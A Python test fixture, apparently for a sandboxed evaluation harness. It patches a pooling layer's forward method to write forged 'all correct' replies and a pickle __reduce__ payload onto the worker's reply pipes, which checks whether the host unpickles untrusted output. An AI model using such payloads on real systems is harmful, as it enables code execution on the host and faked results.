"""Writes its own messages on the worker's reply channel from Pooling.forward: a fake "all
correct" reply carrying a pickled object (which would create a file if unpickled), and a JSON
header with a __reduce__-style payload."""
import io
import json
import os
import pickle
import struct

import numpy as np

import common.layers as layers


class Pwn:
    def __reduce__(self):
        return (open, ("{{OUTSIDE}}/pwned", "w"))


def message(header, arrays):
    blobs = []
    for name, arr in arrays.items():
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        blobs.append(buf.getvalue())
        header.setdefault("arrays", []).append({"name": name, "nbytes": len(blobs[-1])})
    head = json.dumps(header).encode()
    payload = struct.pack(">I", len(head)) + head + b"".join(blobs)
    return struct.pack(">Q", len(payload)) + payload


def reply_fds():
    fds = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                fds.append(int(name))
        except OSError:
            pass
    return [fd for fd in fds if fd > 2]


def forward(self, x):
    evil = np.empty(1, dtype=object)
    evil[0] = Pwn()
    for fd in reply_fds():
        try:
            os.write(fd, message({"ok": True, "__reduce__": "os.system"}, {"out": evil}))
            os.write(fd, pickle.dumps(Pwn()))
        except OSError:
            pass
    return np.zeros(1)


class Patch:
    layers.Pooling.forward = forward
